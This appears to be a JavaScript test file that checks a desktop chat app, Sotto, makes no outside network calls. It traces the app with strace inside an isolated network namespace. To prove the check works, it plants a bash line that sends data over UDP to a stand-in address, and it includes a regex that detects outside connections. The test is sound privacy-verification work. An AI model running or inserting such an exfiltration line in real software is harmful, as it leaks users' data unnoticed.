// A whole session on this computer speaks to nobody. The kernel is the witness: the program and all
// that it starts run under strace, in a network namespace that has no way out, and no call may name
// an internet address or somebody who looks one up. Then a leak is planted, and must be seen.
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { closeSync, openSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { programs } from "./lib/environment.mjs";
import { childRunning, gone, kill } from "./lib/processes.mjs";
import { exported } from "./lib/terminal.mjs";
import { test } from "./lib/tests.mjs";
import { until } from "./lib/waiting.mjs";

/** Addresses beyond this computer, and services that would ask others on our behalf. */
const OUTSIDE = /\bAF_(?:INET6?|PACKET|VSOCK|BLUETOOTH)\b|nscd|systemd\/resolve|avahi|libvirt/;

/** The command that gives another one a network of its own; null where the kernel allows none. */
function namespace() {
  for (const command of [
    ["unshare", "--net"],
    ["unshare", "--map-root-user", "--net"],
  ]) {
    if (spawnSync(command[0], [...command.slice(1), "true"]).status === 0) return command;
  }
  return null;
}

/** Starts a program below strace in that namespace. */
function traced(home, apart, name, command) {
  const trace = join(home.path, `${name}.strace`);
  const log = join(home.path, `${name}.log`);
  const strace = ["strace", "--follow-forks", "--trace=network", "-o", trace];
  const [program, ...args] = [...apart, ...strace, ...command];
  const output = openSync(log, "w");
  const child = spawn(program, args, {
    env: { ...process.env, SOTTO_HOME: home.path, RUST_LOG: "sotto_desktop=info" },
    stdio: ["ignore", output, output],
  });
  closeSync(output);
  const ended = new Promise((resolve, reject) => {
    child.once("error", reject);
    child.once("exit", resolve);
  });
  return {
    pid: child.pid,
    ended,
    said: () => readFileSync(log, "utf8"),
    calls: () => readFileSync(trace, "utf8").split("\n").filter(Boolean),
  };
}

function xdotool(...args) {
  const done = spawnSync("xdotool", args, { encoding: "utf8", timeout: 30_000 });
  assert.equal(done.status, 0, `xdotool ${args.join(" ")}: ${done.stderr}`);
}

/** Uses the window as a person does, with keys alone, and ends it. Gives the calls that it made. */
async function session(t, home, apart, name, use) {
  const run = traced(home, apart, name, [programs.desktop]);
  const pid = await until("the window's program runs", () =>
    childRunning(run.pid, programs.desktop),
  );
  t.after(() => kill(pid, "SIGKILL"));
  await until("the composer takes text", () => run.said().includes("the composer takes text"));
  xdotool("search", "--sync", "--onlyvisible", "--name", "^Sotto$", "windowactivate", "--sync");
  await use();
  kill(pid, "SIGTERM");
  await gone(pid, 15_000);
  await run.ended;
  return run.calls();
}

const type = (text) => xdotool("type", "--delay", "15", text);
const press = (...keys) => xdotool("key", "--delay", "60", ...keys);

test("a whole session speaks to nobody", async (t) => {
  const apart = namespace();
  if (!apart) {
    t.note("not run: this machine allows no network namespaces");
    return;
  }
  const home = t.home();
  const calls = await session(t, home, apart, "first", async () => {
    type("Say hello.");
    press("Return");
    await until("the answer is kept", async () => {
      const [conversation] = await exported(home);
      return conversation?.messages.at(-1)?.state === "complete";
    });
    press("ctrl+shift+m", "Escape", "ctrl+slash", "Escape", "ctrl+b", "ctrl+b");
    // The settings, and what left.
    press("ctrl+comma", "Escape", "ctrl+shift+l", "Escape");
  });
  calls.push(
    ...(await session(t, home, apart, "second", async () => {
      press("ctrl+k");
      type("hello");
      press("Return", "ctrl+n");
    })),
  );
  assert.deepEqual(
    calls.filter((call) => OUTSIDE.test(call)),
    [],
  );
  // It was watched: window, keyring and runtime are reached through Unix sockets.
  const local = calls.filter((call) => /connect\(.*AF_UNIX.*\) = 0/.test(call));
  assert.ok(local.length > 3, `${local.length} connections on this computer`);
  t.note(`${calls.length} network calls, ${local.length} connections, all on this computer`);

  const leak = '"$0" ask "Say hello." >/dev/null; echo words >/dev/udp/192.0.2.1/53';
  const planted = traced(home, apart, "planted", ["bash", "-c", leak, programs.cli]);
  await planted.ended;
  const seen = planted.calls().filter((call) => OUTSIDE.test(call));
  assert.ok(seen.length > 0, "the planted leak was not seen");
});
